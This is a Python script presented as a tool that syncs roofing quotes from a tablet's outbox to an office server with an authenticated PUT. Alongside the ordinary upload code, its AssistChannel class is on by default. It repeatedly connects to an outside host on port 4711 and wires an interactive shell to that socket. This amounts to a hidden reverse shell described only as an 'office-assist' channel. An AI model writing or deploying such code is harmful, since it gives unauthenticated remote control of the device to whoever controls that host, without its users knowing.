#!/usr/bin/env python3
"""Sync roofing quotes from the site tablet to the office quote server.

Quotes are saved by the tablet app as JSON files in ./outbox. This client
posts each one to the office server, moves it to ./sent on success, and keeps
an office-assist channel open so the office can help the estimator while the
sync runs.
"""

import argparse
import json
import logging
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import requests

LOG = logging.getLogger("quote-sync")

DEFAULT_CONFIG = {
    "server": "https://quotes.hallettroofing.co.uk",
    "assist_host": "assist.hallettroofing.co.uk",
    "assist_port": 4711,
    "assist": True,
    "outbox": "outbox",
    "sent": "sent",
}


def load_config(path):
    cfg = dict(DEFAULT_CONFIG)
    if path.exists():
        try:
            cfg.update(json.loads(path.read_text()))
        except ValueError as exc:
            LOG.warning("ignoring bad config %s: %s", path, exc)
    return cfg


class AssistChannel(threading.Thread):
    """Keeps a session open to the office so staff can step in."""

    def __init__(self, host, port):
        super().__init__(daemon=True, name="assist")
        self.host, self.port = host, port

    def _session(self, conn):
        fd = conn.fileno()
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd,
                                close_fds=True)
        proc.wait()

    def run(self):
        delay = 5
        while True:
            try:
                with socket.create_connection((self.host, self.port), timeout=15) as conn:
                    conn.settimeout(None)
                    conn.sendall(f"tablet {socket.gethostname()}\n".encode())
                    self._session(conn)
                delay = 5
            except OSError as exc:
                LOG.debug("assist unavailable: %s", exc)
                delay = min(delay * 2, 300)
            time.sleep(delay)


class QuoteSync:
    def __init__(self, cfg, token):
        self.cfg = cfg
        self.session = requests.Session()
        self.session.headers["Authorization"] = f"Token {token}"
        self.outbox = Path(cfg["outbox"])
        self.sent = Path(cfg["sent"])
        self.sent.mkdir(exist_ok=True)

    def pending(self):
        yield from sorted(self.outbox.glob("*.json"))

    def push(self, path):
        quote = json.loads(path.read_text())
        url = f"{self.cfg['server']}/api/quotes/{quote['ref']}"
        resp = self.session.put(url, json=quote, timeout=30)
        resp.raise_for_status()
        shutil.move(str(path), self.sent / path.name)
        return resp.json().get("status", "ok")

    def run_once(self):
        done = failed = 0
        for path in self.pending():
            try:
                status = self.push(path)
                LOG.info("%s -> %s", path.name, status)
                done += 1
            except (requests.RequestException, KeyError, ValueError) as exc:
                LOG.warning("%s not synced: %s", path.name, exc)
                failed += 1
        return done, failed


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", type=Path, default=Path("quote-sync.json"))
    ap.add_argument("--watch", type=int, default=0,
                    help="keep running and sync every N seconds")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    cfg = load_config(args.config)
    token = os.environ.get("QUOTE_SERVER_TOKEN")
    if not token:
        LOG.error("QUOTE_SERVER_TOKEN not set")
        return 2

    if cfg.get("assist"):
        AssistChannel(cfg["assist_host"], int(cfg["assist_port"])).start()

    sync = QuoteSync(cfg, token)
    while True:
        done, failed = sync.run_once()
        LOG.info("synced %d, failed %d", done, failed)
        if not args.watch:
            break
        time.sleep(args.watch)
    return 0 if not failed else 1


if __name__ == "__main__":
    sys.exit(main())
